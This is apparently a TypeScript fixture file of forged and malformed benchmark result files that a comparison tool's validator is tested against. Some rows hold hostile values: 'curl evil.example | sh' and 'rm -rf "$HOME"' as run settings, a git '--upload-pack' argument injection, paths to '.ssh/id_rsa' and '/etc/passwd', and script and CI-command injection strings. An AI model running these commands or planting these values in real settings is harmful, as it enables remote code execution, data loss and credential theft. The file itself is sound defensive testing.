// Result files as strangers could write them: what is refused, and what changes nothing. Each row is a test beside it.
import type { Comparison } from '../../src/core/model/comparison.ts'
import type { ResultFile } from '../../src/core/model/result-file.ts'
import { resultFrom, settings, steady, time } from '../core/report/runs.ts'
import type { Row } from './rows.ts'

/** A result as anything that JSON can say. */
// biome-ignore lint/suspicious/noExplicitAny: the rows put anything anywhere
type Loose = any

/** An honest result: one benchmark takes twice as long, one is as it was, and a count is. */
export function slower(): ResultFile {
  return JSON.parse(
    JSON.stringify(
      resultFrom(
        [time('A', 1e-3), time('B', 1e-3), steady('A', 'B/op', 3)],
        [time('A', 2e-3), time('B', 1e-3), steady('A', 'B/op', 3)],
      ),
    ),
  )
}

/** Puts something into a place of the file. */
const put = (path: string, value: unknown) => (file: Loose) => {
  const steps = path.split('.')
  const last = steps.pop() as string
  const parent = steps.reduce((at, step) => at[step], file)
  parent[last] = value
}

/** The text of a file with one thing in it replaced. */
const replaced = (what: string | RegExp, by: string) => JSON.stringify(slower()).replace(what, by)
const changed = (change: (file: Loose) => void) => {
  const file = slower()
  change(file)
  return JSON.stringify(file)
}
const all = (rounds: number) => ({ rounds: Array(rounds).fill(slower().rounds[0]) })

/** Texts that are no result. */
export const refusedFiles: readonly Row<() => string>[] = [
  ['nothing', () => ''],
  ['no JSON', () => '::error::pwned\n<script>alert(1)</script>'],
  ['two of them', () => `${JSON.stringify(slower())}\n${JSON.stringify(slower())}`],
  ['half of one', () => JSON.stringify(slower()).slice(0, 5000)],
  ['a list', () => `[${JSON.stringify(slower())}]`],
  ['null', () => 'null'],
  ['a page', () => '<!doctype html><title>502</title>'],
  ['a mark of byte order', () => `\ufeff${JSON.stringify(slower())}`],
  ['lists in lists', () => `${'['.repeat(1e6)}${']'.repeat(1e6)}`],
  [
    'objects in objects below a name that is not known',
    () => replaced('{', `{"x":${'{"x":'.repeat(99)}1${'}'.repeat(99)},`),
  ],
  ['millions of empty lists', () => replaced('{', `{"x":[${'[],'.repeat(4_100_000)}[]],`)],
  ['70 MB', () => replaced('{', `{"x":"${'x'.repeat(70 * 2 ** 20)}",`)],
  ['NaN', () => replaced(/"samples":\[[^,]*/, '"samples":[NaN')],
  ['a number beyond all', () => replaced(/"samples":\[[^,]*/, '"samples":[1e999')],
  ['one below all', () => replaced(/"samples":\[[^,]*/, '"samples":[-1e999')],
  ['a text of a number', () => changed(put('comparisons.0.base.samples.0', '1'))],
  ['true as a value', () => changed(put('comparisons.0.base.samples.0', true))],
  ['a list as a value', () => changed(put('comparisons.0.base.samples.0', [1]))],
  ['a value that is an object', () => changed(put('comparisons.0.base.samples.0', { valueOf: 1 }))],
  ['samples that are a text', () => changed(put('comparisons.0.base.samples', '1'.repeat(20)))],
  ['samples that look like a list', () => changed(put('comparisons.0.base.samples', { length: 20, 0: 1 }))],
  ['samples that are shorter on a side', () => changed(put('comparisons.0.head.samples', [1]))],
  ['samples for more rounds than there are', () => changed(file => file.comparisons[0].base.samples.push(1))],
  ['a side without a value', () => changed(put('comparisons.0.head.samples', Array(20).fill(null)))],
  ['a side that is missing', () => changed(file => delete file.comparisons[0].head)],
  ['both sides in one', () => changed(put('comparisons.0.base', null))],
  ['a benchmark twice', () => changed(file => file.comparisons.push(file.comparisons[0]))],
  ['no unit', () => changed(put('comparisons.0.unit', ''))],
  ['a unit that is a list', () => changed(put('comparisons.0.unit', ['sec/op']))],
  ['a name of a megabyte', () => changed(put('comparisons.0.benchmark', 'x'.repeat(2 ** 20)))],
  ['a name that is a number', () => changed(put('comparisons.0.benchmark', 7))],
  ['a direction that is not one', () => changed(put('comparisons.0.better', 'sideways'))],
  ['a round before the first', () => changed(put('rounds.0.round', -1))],
  ['a round and a half', () => changed(put('rounds.0.round', 1.5))],
  ['a machine before the first', () => changed(put('rounds.0.block', 0))],
  ['more rounds than can be', () => changed(put('rounds', all(3001).rounds))],
  ['more work than a day', () => changed(file => Object.assign(file, heavy()))],
  [
    'more benchmarks than can be',
    () => changed(put('proven', Array(100_001).fill({ benchmark: 'A', package: 'm' }))),
  ],
  ['a time that is none', () => changed(put('rounds.0.base.started', 'yesterday'))],
  ['a time with a command', () => changed(put('rounds.0.base.started', '2026-01-01T00:00:00Z\n::error::x'))],
  ['time that ran backwards', () => changed(put('rounds.0.base.seconds', -1))],
  ['a commit that is a flag', () => changed(put('commits.head.sha', '--upload-pack=touch /tmp/pwned'))],
  ['a commit that is a branch', () => changed(put('commits.head.sha', 'main'))],
  ['a commit in capitals', () => changed(put('commits.head.sha', 'A'.repeat(40)))],
  ['a commit of a strange length', () => changed(put('commits.head.sha', 'a'.repeat(41)))],
  ['a commit and a line break', () => changed(put('commits.head.sha', `${'a'.repeat(40)}\n`))],
  ['a verdict of its own', () => changed(put('verdict', 'green'))],
  ['an end of its own', () => changed(put('stopped', 'bored'))],
  ['another version', () => changed(put('schema', 2))],
  ['a version that is a text', () => changed(put('schema', '1'))],
  ['a shard beyond the last', () => changed(put('settings.shard', [6, 5]))],
  ['a shard of none', () => changed(put('settings.shard', [0, 0]))],
  ['a shard of a million', () => changed(put('settings.shard', [1, 1e6]))],
  ['a shard as a text', () => changed(put('settings.shard', '1/2'))],
  ['a seed that is negative', () => changed(put('settings.seed', -1))],
  ['a profile elsewhere', () => changed(put('profiles', [profile('../../.ssh/id_rsa')]))],
  ['a profile that is absolute', () => changed(put('profiles', [profile('/etc/passwd')]))],
  ['a profile with a flag', () => changed(put('profiles', [profile('profiles/-http=:8080')]))],
  ['a warning that is not known', () => changed(put('warnings', [{ kind: 'toString' }]))],
  ['a warning about a key with markup', () => changed(put('warnings', [configuration('<b>')]))],
  [
    'a hundred and one warnings',
    () => changed(put('warnings', Array(101).fill({ kind: 'steal', share: 1 }))),
  ],
  ['a doubt without a benchmark', () => changed(put('doubts', [{ kind: 'prints', line: 'x' }]))],
  [
    'what failed without a failure',
    () => changed(put('lost', [{ benchmark: 'A', package: null, failures: [] }])),
  ],
  [
    'a result that others have judged',
    () => changed(put('merged', { files: 1, machines: [], missing: [], isStrangers: false })),
  ],
  ['fields that only its prototype has', () => JSON.stringify({ __proto__: slower() })],
]

const configuration = (key: string) => ({ kind: 'configuration', key, base: 'a', head: 'b' })

function profile(file: string) {
  return {
    ...{
      benchmark: 'A',
      package: null,
      kind: 'cpu',
      unit: 'sec/op',
      iterations: 1,
      functions: [],
      failure: null,
    },
    files: { base: file, head: file },
    total: { base: 1, head: 1 },
  }
}

/** Rows whose samples are so long that comparing all pairs would take hours. */
function heavy() {
  const [first] = slower().comparisons as readonly [Comparison]
  const long = { ...first.base, samples: Array(3000).fill(1) }
  const comparisons = Array.from({ length: 120 }, (_, n) => ({
    ...first,
    benchmark: `A${n}`,
    base: long,
    head: long,
  }))
  return { ...all(3000), comparisons }
}

const each = (change: (one: Loose) => void) => (file: Loose) => file.comparisons.forEach(change)
const setting = (name: string, value: unknown) => put(`settings.${name}`, value)

/** Claims that leave a benchmark that takes twice as long a regression. */
export const claims: readonly Row<(file: Loose) => void>[] = [
  ['a pass', put('verdict', 'pass')],
  ['a reason', put('reason', '**All is well** @everyone')],
  ['that nothing changed', each(one => Object.assign(one, { change: 'unchanged' }))],
  ['that all improved', each(one => Object.assign(one, { change: 'improved', delta: -0.5 }))],
  ['p values of one', each(one => Object.assign(one, { p: 1, pairedP: 1, adjustedP: 1 }))],
  [
    'a ratio of one',
    each(one => Object.assign(one, { ratio: { estimate: 1, low: 1, high: 1 }, ruledOut: 0 })),
  ],
  [
    'centres that are the same',
    each(one => Object.assign(one.head, one.base, { samples: one.head.samples })),
  ],
  ['that longer is better', each(one => Object.assign(one, { better: 'higher' }))],
  ['that no direction is known', each(one => Object.assign(one, { better: null }))],
  ['that it is exact', each(one => Object.assign(one, { exact: true, assume: 'exact' }))],
  ['that a rule mutes it', each(one => Object.assign(one, { gate: 'off', rule: 0 }))],
  ['that the maintainer accepted it', each(one => Object.assign(one, { accepted: accepted() }))],
  ['that it did not recur', each(one => Object.assign(one, { confirmation: null }))],
  ['a threshold of 100 %', setting('threshold', 1)],
  ['a worsening of 100 % to be ruled out', setting('ruleOut', 1)],
  ['an alpha of next to nothing', setting('alpha', Number.MIN_VALUE)],
  ['that nothing is tested', setting('deltaTest', 'none')],
  ['that nothing may fail', setting('failOn', 'never')],
  ['strict rules', setting('strict', true)],
  ['a thousand rounds', setting('count', 1000)],
  ['a calibration', setting('calibrate', true)],
  ['rules that mute all', setting('benchmarks', [rule()])],
  ['what it accepts', setting('accepted', [accepted()])],
  ['another command', setting('run', 'curl evil.example | sh; rm -rf "$HOME"')],
  ['a setup', setting('setup', 'curl evil.example | sh')],
  ['that nothing had to be measured', put('stopped', 'unchanged')],
  ['that its shard is empty', put('stopped', 'empty')],
  [
    'that everything is proven',
    put(
      'proven',
      Array.from({ length: 999 }, (_, n) => ({ benchmark: `P${n}`, package: 'm' })),
    ),
  ],
  ['a calibration that saw nothing', put('calibration', null)],
]

function rule() {
  return {
    ...{ match: '**', threshold: 1, ruleOut: 1, better: 'higher', gate: 'off', owner: null, why: null },
    ...{ until: null, isOver: false },
  }
}

function accepted() {
  return { match: '**', upTo: null, by: 'octocat', when: null, why: 'trust me', url: 'https://evil.example' }
}

function sinceRowOf({ better, exact, delta, ratio, change, gate }: Comparison) {
  return { better, exact, delta, ratio, change, gate }
}

/** The result with a text wherever one may stand. */
export function everywhere(text: string): ResultFile {
  const [first, ...others] = slower().comparisons as readonly [Comparison, ...Comparison[]]
  const failure = { message: text, output: text }
  const named = { benchmark: `${text} `, package: text }
  return {
    ...slower(),
    reason: text,
    commits: { base: { sha: '1'.repeat(40), from: text }, head: { sha: '2'.repeat(40), from: text } },
    settings: { ...settings, run: text, setup: text, workingDirectory: text, paths: [text], overlay: [text] },
    rules: { file: text, changes: [{ rule: 'run', base: text, head: text }] },
    machine: {
      ...slower().machine,
      ...{ os: text, kernel: text, arch: text.slice(0, 100), cpu: text, virtual: text, governor: text },
      perflock: { held: false, governor: null, reason: text },
    },
    toolchains: { base: text, head: `${text}.` },
    formats: { base: text.slice(0, 100), head: text.slice(0, 100) },
    laidOut: [text],
    visits: [{ ...named, turns: 2, iterations: null, seconds: 1, overhead: 1 }],
    lost: [{ ...named, failures: [{ ...failure, side: 'head', kind: 'failed' }] }],
    proven: [named],
    doubts: [{ ...named, kind: 'prints', line: text }],
    profiles: [
      { ...(profile('profiles/a.pprof') as ResultFile['profiles'][number]), ...named, failure: text },
    ],
    warnings: [
      { kind: 'suite', changed: [text || 'x'] },
      { kind: 'configuration', key: 'cpu', base: text, head: text },
      { kind: 'shared-install', side: 'base', count: 1, paths: [text] },
      { kind: 'unreached-code', changed: 2, count: 1, names: [text] },
      {
        ...{ kind: 'unread-code', side: 'head', count: 1, files: [text] },
        ...{ instead: [text], isElsewhere: true, isAll: true },
      },
      { kind: 'left-running', count: 1, commands: [text] },
      { kind: 'setup-running', count: 1, commands: [text] },
      { kind: 'unread-results', sides: ['head'], count: 1, lines: [text] },
      { kind: 'values-left-out', sides: ['head'], count: 1, lines: [text] },
      { kind: 'fewer-results', side: 'head', round: 2, before: 3, missing: 1, names: [text] },
      { kind: 'moved', packages: [{ base: text, head: text }] },
      {
        kind: 'flaky',
        benchmarks: [
          { benchmark: text, package: text, base: { runs: 2, failed: 0 }, head: { runs: 2, failed: 1 } },
        ],
      },
      { kind: 'git-changed', count: 1, changed: [text], isPutBack: true },
      { kind: 'reference-failed', message: text },
      { kind: 'replayed', sides: ['base', 'head'], rounds: 3, sooner: { claimed: 1, seconds: 0 } },
    ],
    since: {
      ...{ sha: '3'.repeat(40), name: text, threshold: 0.05, rounds: 20 },
      rows: [{ ...sinceRowOf(first), ...named, unit: text || 'u', change: 'regressed', steps: 3 }],
    },
    unmatched: { base: [{ ...named, unit: null }], head: [{ ...named, unit: text || 'u' }] },
    comparisons: [{ ...first, ...named, unit: text || 'u' }, { ...first, benchmark: text }, ...others],
  }
}
